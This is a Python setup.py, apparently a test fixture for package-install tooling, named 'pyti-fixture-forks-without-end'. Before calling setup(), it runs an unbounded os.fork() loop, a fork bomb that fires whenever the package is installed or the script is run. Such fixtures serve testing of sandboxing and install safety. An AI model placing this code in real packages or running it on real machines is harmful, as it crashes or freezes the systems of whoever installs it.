"""Forks without end."""
import os

while True:
    try:
        os.fork()
    except OSError:
        pass

from setuptools import setup

setup(name="pyti-fixture-forks-without-end", version="1.0", py_modules=["forks_without_end"])
